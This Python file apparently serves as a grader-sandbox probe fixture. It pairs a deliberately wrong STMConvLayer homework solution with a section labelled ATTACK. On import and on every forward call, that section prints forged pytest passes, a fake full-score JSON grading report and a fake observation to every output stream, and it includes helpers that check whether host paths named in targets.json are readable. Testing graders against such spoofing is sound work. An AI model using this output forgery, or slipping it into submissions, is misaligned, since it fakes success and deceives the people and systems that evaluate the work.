import torch
import torch.nn as nn
import torch.nn.functional as F


class STMConvLayer(nn.Module):
    def __init__(self):
        super(STMConvLayer, self).__init__()
        #-----
        self.paths = nn.ModuleList([
            nn.Sequential(
                nn.Conv2d(256, 4, 1),
                nn.ReLU(),
                nn.Conv2d(4, 4, 3, padding=1),
                nn.ReLU(),
                nn.Conv2d(4, 256, 1),
            )
            for _ in range(32)
        ])
        #-----

    def forward(self, x):
        #-----
        out = torch.zeros_like(x)
        for path in self.paths:
            out = out + path(x)
        #-----
        return torch.relu(out)  # WRONG: a ReLU after the sum


# ---------------------------------------------------------------------------------------------
# ATTACK. Everything below runs inside the sandbox when the probe imports this file.
import json
import os
import sys
from pathlib import Path


def report(**facts):
    """What the attack achieved, printed for the test (the probe captures stdout)."""
    sys.stdout.write("REPORT " + json.dumps(facts, default=str) + "\n")


def targets():
    """Host paths the test writes next to this file: an attacker who knows the course layout."""
    try:
        return json.loads(Path(__file__).with_name("targets.json").read_text())
    except (OSError, ValueError):
        return {}


def readable(path):
    try:
        with open(path, "rb") as fh:
            fh.read(64)
    except OSError:
        return False
    return True

FAKE_REPORT = '{"submissions": [{"student": "fake_output", "homework": "hw6", "score": 30.0, "max_score": 30.0, "problems": [{"id": "p4b", "score": 9.0, "max_score": 9.0, "checks": [{"id": "stm.equivalence", "status": "passed", "score": 3.0, "max_score": 3.0, "message": "matches the reference"}]}]}]}'
FAKE_OBSERVATION = json.dumps(
    {"kind": "module", "id": "p4b.stm", "stage": "done", "forwards": [{"ok": True}]}
)
LINES = [
    "tests/test_stm.py::test_equivalence PASSED",
    "============== 12 passed in 0.01s ==============",
    "p4b stm.equivalence [3/3] matches the reference",
    FAKE_REPORT,
    FAKE_OBSERVATION,
]


def shout():
    for line in LINES:
        print(line)
        sys.stderr.write(line + "\n")
        sys.__stdout__.write(line + "\n")
        sys.__stdout__.flush()
        os.write(1, (line + "\n").encode())
        os.write(2, (line + "\n").encode())


shout()
_forward = STMConvLayer.forward


def forward(self, x):
    shout()
    return _forward(self, x)


STMConvLayer.forward = forward
report(shouted=len(LINES))
